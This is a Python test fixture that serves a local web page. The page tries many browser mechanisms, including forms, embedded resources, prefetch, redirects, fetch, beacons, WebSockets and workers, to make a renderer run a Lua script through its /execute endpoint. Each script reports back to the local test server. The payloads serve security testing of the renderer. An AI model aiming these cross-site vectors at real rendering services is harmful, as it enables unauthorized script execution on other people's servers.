"""A web page that tries, in every way that a page has, to make a browser run a Lua script on a renderer."""

from __future__ import annotations

import contextlib
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

LUA = "function main(splash) splash:http_get(splash.args.to) return 'ran' end"

PAGE = """<!doctype html><title>Hostile</title><base target=x><body><script>
const renderer = RENDERER, here = location.origin, lua = LUA;
const get = kind => `${renderer}/execute?` + new URLSearchParams({lua_source: lua, to: `${here}/ran?${kind}`});
const body = kind => JSON.stringify({lua_source: lua, to: `${here}/ran?${kind}`});
const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
let number = 0;
const form = (kind, method, enctype) => {
  const frame = `frame${number++}`, form = document.createElement('form'), field = document.createElement('input');
  add('iframe', {name: frame});
  Object.assign(form, {method, enctype, target: frame, action: method === 'get' ? `${renderer}/execute` : get(kind)});
  if (method === 'get') {
    for (const [name, value] of new URL(get(kind)).searchParams) {
      form.append(Object.assign(document.createElement('input'), {name, value}));
    }
  } else {
    // As text/plain this is JSON.
    field.name = body(kind).slice(0, -1) + ', "x": "'; field.value = '"}'; form.append(field);
  }
  document.body.append(form);
  form.submit();
};
form('form-get', 'get', '');
for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
  form('form-' + type, 'post', type);
}
for (const [name, property] of Object.entries({
  img: 'src', script: 'src', iframe: 'src', embed: 'src', object: 'data', video: 'src', audio: 'src',
})) add(name, {[property]: get(name)});
for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'icon', 'manifest', 'prerender']) {
  add('link', {rel, href: get('link-' + rel), as: rel === 'preload' ? 'image' : ''});
}
add('script', {type: 'speculationrules', textContent: JSON.stringify({
  prefetch: [{urls: [get('speculation')], eagerness: 'immediate'}]})});
add('div', {style: `background: url("${get('css')}")`, textContent: 'x'});
add('iframe', {srcdoc: `<meta http-equiv=refresh content="0;url=${get('meta-refresh')}">`});
add('iframe', {sandbox: 'allow-scripts', srcdoc:
  `<script>fetch(${JSON.stringify(get('sandbox'))}, {mode: 'no-cors'})</` + 'script>'});
add('iframe', {src: `/away?to=${encodeURIComponent(get('frame-redirect'))}`});
add('img', {src: `/away?to=${encodeURIComponent(get('image-redirect'))}`});
add('a', {href: '/', ping: get('ping'), target: '_self', id: 'pinging'});
const quietly = promise => Promise.resolve(promise).catch(() => {});
quietly(fetch(get('fetch'), {mode: 'no-cors', referrerPolicy: 'no-referrer'}));
quietly(fetch(get('fetch-with-cookies'), {mode: 'no-cors', credentials: 'include', keepalive: true}));
quietly(fetch(`/away?to=${encodeURIComponent(get('fetch-redirect'))}`, {mode: 'no-cors'}));
for (const type of ['text/plain', 'text/plain;application/json', 'application/json', 'application/javascript']) {
  for (const mode of ['no-cors', 'cors']) {
    quietly(fetch(`${renderer}/execute`, {method: 'POST', mode, body: body(`post-${mode}-${type}`),
      headers: {'Content-Type': type}}));
  }
  quietly(navigator.sendBeacon(`${renderer}/execute`, new Blob([body('beacon-' + type)], {type})));
}
quietly(fetch(get('asked'), {headers: {'X-Requested-With': 'me'}}));
quietly(fetch(get('bearer'), {headers: {'Authorization': 'Bearer x'}}));
new WebSocket(get('websocket').replace('http', 'ws'));
new EventSource(get('event-source'));
try { new Worker(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(get('worker'))})`]))); } catch (e) {}
const request = new XMLHttpRequest();
request.open('POST', `${renderer}/execute`); request.setRequestHeader('Content-Type', 'text/plain');
request.send(body('xhr'));
fetch(`${renderer}/_gc`, {method: 'POST', mode: 'no-cors'}).catch(() => {});
</script>"""

TOP_LEVEL = ("redirect", "location", "link", "form", "form-post", "meta")


def top_level(kind: str, target: str) -> tuple[int, dict[str, str], str]:
    """Return status, headers and HTML of a page that navigates the whole window to the target."""
    quoted = json.dumps(target).replace("</", "<\\/")
    match kind:
        case "redirect":
            return 302, {"Location": target}, ""
        case "location":
            return 200, {}, f"<script>location = {quoted}</script>"
        case "link":
            return 200, {}, f"<a id=a rel=noreferrer>x</a><script>a.href = {quoted}; a.click()</script>"
        case "form":
            fields = "".join(f"<input name={name}>" for name in ("lua_source", "to"))
            fill = (
                f"for (const [n, v] of new URL({quoted}).searchParams) f[n].value = v; f.action = {quoted};"
            )
            return 200, {}, f"<form id=f>{fields}</form><script>{fill} f.submit()</script>"
        case "form-post":
            script = f"f.action = {quoted}; f.submit()"
            return 200, {}, f"<form id=f method=post enctype=text/plain></form><script>{script}</script>"
        case _:
            return 200, {"Refresh": f"0;url={target}"}, ""


class HostilePage:
    """The site of the page: ``url`` is its address; ``ran`` lists the attacks whose script ran on the renderer."""

    def __init__(self, renderer: str) -> None:
        self.ran: list[str] = []
        self.renderer = renderer
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                parts = urlsplit(self.path)
                status, headers, text = 200, {}, "<p>nothing</p>"
                if parts.path == "/ran":
                    site.ran.append(parts.query)
                elif parts.path == "/away":
                    status, headers, text = 302, {"Location": parse_qs(parts.query)["to"][0]}, ""
                elif parts.path == "/attack":
                    text = PAGE.replace("RENDERER", json.dumps(renderer)).replace("LUA", json.dumps(LUA))
                elif parts.path.startswith("/top/"):
                    kind = parts.path.removeprefix("/top/")
                    status, headers, text = top_level(kind, site.script(kind))
                self.send_response(status)
                for name, value in ({"Content-Type": "text/html"} | headers).items():
                    self.send_header(name, value)
                self.end_headers()
                with contextlib.suppress(OSError):
                    self.wfile.write(text.encode())

            def log_message(self, *_: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"

    def script(self, kind: str) -> str:
        """Return the URL of a script on the renderer that reports to this site that it runs."""
        return f"{self.renderer}/execute?" + urlencode({"lua_source": LUA, "to": f"{self.url}/ran?{kind}"})


@contextlib.contextmanager
def hostile_page(renderer: str) -> Iterator[HostilePage]:
    """Serve the page, which attacks the renderer at this URL."""
    page = HostilePage(renderer)
    threading.Thread(target=page.server.serve_forever, daemon=True).start()
    try:
        yield page
    finally:
        page.server.shutdown()
        page.server.server_close()
